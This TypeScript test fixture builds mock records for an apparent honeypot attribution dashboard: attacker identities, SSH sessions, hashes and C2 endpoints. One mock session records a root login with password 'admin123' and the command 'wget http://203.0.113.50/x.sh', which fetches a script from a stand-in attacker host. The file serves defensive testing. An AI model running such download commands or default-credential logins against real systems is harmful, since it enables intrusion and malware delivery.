import type {
  Attacker,
  AttackerDetail,
  IdentityDetail,
  IdentityPage,
} from "../api/types";

export const IDENTITY_A = "0a1b2c3d-0000-4000-8000-000000000001";
export const IDENTITY_B = "0b1b2c3d-0000-4000-8000-000000000002";
export const CAMPAIGN = "c4a3b2a1-0000-4000-8000-0000000000c1";
export const OBSERVATION_1 = "a0000000-0000-4000-8000-000000000011";
export const OBSERVATION_2 = "a0000000-0000-4000-8000-000000000012";

export function identity(overrides: Partial<IdentityDetail> = {}) {
  const row: IdentityDetail = {
    uuid: IDENTITY_A,
    schema_version: 1,
    campaign_id: null,
    first_seen_at: "2026-11-02T08:00:00Z",
    last_seen_at: "2026-11-20T17:30:00Z",
    created_at: "2026-11-02T08:05:00Z",
    updated_at: "2026-11-20T17:35:00Z",
    confidence: 0.93,
    observation_count: 2,
    observation_count_live: 2,
    ja3_hashes: [],
    hassh_hashes: ["ec7378c1a92f5a8dde7e8b7a1ddf33d1"],
    payload_simhashes: ["8f3a0c21d4e5b697", "8f3a0c21d4e5b696"],
    c2_endpoints: ["203.0.113.50", "dl.example.net"],
    kd_digraph_simhash: "0000000000000000",
    merged_into_uuid: null,
    notes: null,
    resolved_from: null,
    merged_uuids: [],
    ...overrides,
  };
  return row;
}

export function page<T>(data: T[], total = data.length, offset = 0) {
  return { total, limit: 50, offset, data };
}

export function identityPage(rows: IdentityDetail[], total?: number) {
  return page(rows, total) as IdentityPage;
}

export function attacker(overrides: Partial<Attacker> = {}): Attacker {
  return {
    uuid: OBSERVATION_1,
    ip: "198.51.100.7",
    first_seen_at: "2026-11-02T08:00:00Z",
    last_seen_at: "2026-11-03T09:00:00Z",
    session_count: 3,
    event_count: 40,
    credential_count: 5,
    login_success_count: 1,
    command_count: 12,
    services: ["ssh"],
    sensors: ["sensor-eu-1"],
    client_versions: ["SSH-2.0-Go"],
    hassh_hashes: ["ec7378c1a92f5a8dde7e8b7a1ddf33d1"],
    ja3_hashes: [],
    payload_sha256: [],
    c2_endpoints: ["203.0.113.50"],
    active_hours: [8, 9],
    kd_digraph_simhash: "0000000000000000",
    is_private: false,
    is_gateway: false,
    multi_stack: false,
    created_at: "2026-11-02T08:00:00Z",
    updated_at: "2026-11-03T09:00:00Z",
    identity_id: IDENTITY_A,
    ...overrides,
  };
}

export function attackerDetail(
  overrides: Partial<AttackerDetail> = {},
): AttackerDetail {
  return {
    ...attacker(),
    canonical_identity_id: IDENTITY_A,
    session_total: 1,
    sessions_limit: 50,
    sessions: [
      {
        id: 1,
        sensor: "sensor-eu-1",
        session_id: "c0ffee01",
        protocol: "ssh",
        src_port: 50522,
        dst_port: 22,
        started_at: "2026-11-02T08:00:00Z",
        ended_at: "2026-11-02T08:01:30Z",
        duration_s: 90,
        event_count: 14,
        client_version: "SSH-2.0-Go",
        hassh: "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
        ja3: null,
        ja4: null,
        credentials: [
          { username: "root", password: "admin123", success: true },
        ],
        commands: [
          { input: "uname -a", failed: false },
          { input: "wget http://203.0.113.50/x.sh", failed: false },
        ],
        downloads: [
          {
            kind: "download",
            url: "http://203.0.113.50/x.sh",
            sha256:
              "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
          },
        ],
        forwards: null,
        command_simhash: null,
        kd_digraph_simhash: "0000000000000000",
        input_typed: false,
        phase: null,
      },
    ],
    ...overrides,
  };
}
